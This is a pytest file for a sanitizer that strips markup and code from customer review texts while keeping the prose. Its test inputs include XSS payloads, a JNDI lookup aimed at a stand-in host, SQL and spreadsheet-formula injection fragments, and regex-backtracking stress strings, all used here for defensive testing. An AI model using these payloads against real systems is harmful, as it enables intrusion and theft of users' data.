"""Markup and code taken out of customers' texts before words are read (audit2 N6), prose kept."""

from __future__ import annotations

import time

import pytest

from advocacy.text.markup import without_markup


def _words(text: str) -> list[str]:
    return without_markup(text).split()


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("<img src=x onerror=alert(1)> refund never came", "refund never came"),
        ("<script>alert(document.cookie)</script> loves it", "loves it"),
        ("&lt;svg onload=alert(1)&gt; lovely dress", "lovely dress"),
        ("it&amp;#39;s fine &amp;lt;b&amp;gt;x", "it's fine x"),  # escaped twice
        ("&amp;amp;lt;b&amp;amp;gt; rude &amp;amp;lt;/b&amp;amp;gt;", "rude"),  # three times
        ('<a href="javascript:alert(1)" onclick="alert(2)">comfy</a> and warm', "comfy and warm"),
        ("javascript:alert(1) the cable is missing", "the cable is missing"),
        ("${jndi:ldap://evil.example/x} size runs small", "size runs small"),
        ("see https://t.co/x and www.shop.example @user", "see and"),
        ("onmouseover = steal() rude staff", "rude staff"),
        ("<!-- a comment --> fine", "fine"),
        ("top['al'+'ert'](1) eval(atob('YQ==')) sturdy", "sturdy"),
        ("{{constructor.constructor('alert(1)')()}} document.write('x') soft", "soft"),
        ("'; DROP TABLE users;-- =cmd|'/C warm", "'; DROP TABLE warm"),
        ("data:text/html;base64,PHNjcmlwdD4= alert`1` fits", "fits"),
    ],
)
def test_markup_and_code_go_and_the_words_beside_them_stay(text: str, kept: str) -> None:
    assert _words(text) == kept.split()


@pytest.mark.parametrize(
    "text",
    [
        "Arrived late (again); box crushed.",
        "Big data: the future, they said.",
        "Too tight on the hips( and short.",
        "Available in two color(s), waist.however fits.",
        "I <3 it, 10/10, 5* service!",
        "Größe passt, qualité top, 質がいい",
        # Words glued to punctuation (the review of the hostile lane; Olist and MARC-en texts
        # lost words so): each is read as the words around the punctuation.
        "sandals(brown)are nice, Sneakers(size 9)fit",
        "ok;thanks, great product|fast, Price->too high",
        "Data:great, it's good=) and =D, 2+2=4 lol",
        "cost $60 or 50$, entrega rapida;mas frete caro, anteontem(18/12)",
        "i bought it(the red one), produto(kit aluminio(5), rápida(postagem)",
        "the best book about Fairy`s, {individually} wrapped",
        # A brand's one lowercase letter before its capital is a name, not a camelCase call.
        "my iPhone(red) and iPad(mini) from eBay(used)",
    ],
)
def test_prose_that_only_looks_like_code_is_kept(text: str) -> None:
    prose = [word for word in text.split() if word != "<3"]
    assert [word for word in _words(text) if word != "<3"] == prose


@pytest.mark.parametrize(
    ("giant", "left"),
    [
        ("<" * 20_000, "<" * 20_000),  # no tag: kept as it is
        ("a" * 20_000 + "(", "a" * 20_000 + "("),
        ("<a " * 7_000, ""),  # 7,000 unclosed tags, each taken out
        ("&lt;a " * 5_000, ""),  # the same, escaped
        ("ab;" * 7_000, "ab;" * 7_000),
        ("alert(1) " * 2_200, ""),  # 2,200 code words
    ],
)
def test_giant_hostile_strings_are_read_through_in_linear_time(giant: str, left: str) -> None:
    started = time.process_time()
    out = without_markup(giant)
    took = time.process_time() - started
    assert out.split() == left.split()
    # Linear patterns read 20,000 characters in milliseconds (under 0.1 s measured on a loaded
    # machine); a pattern that backtracks takes seconds to hours on these.
    assert took < 1.0
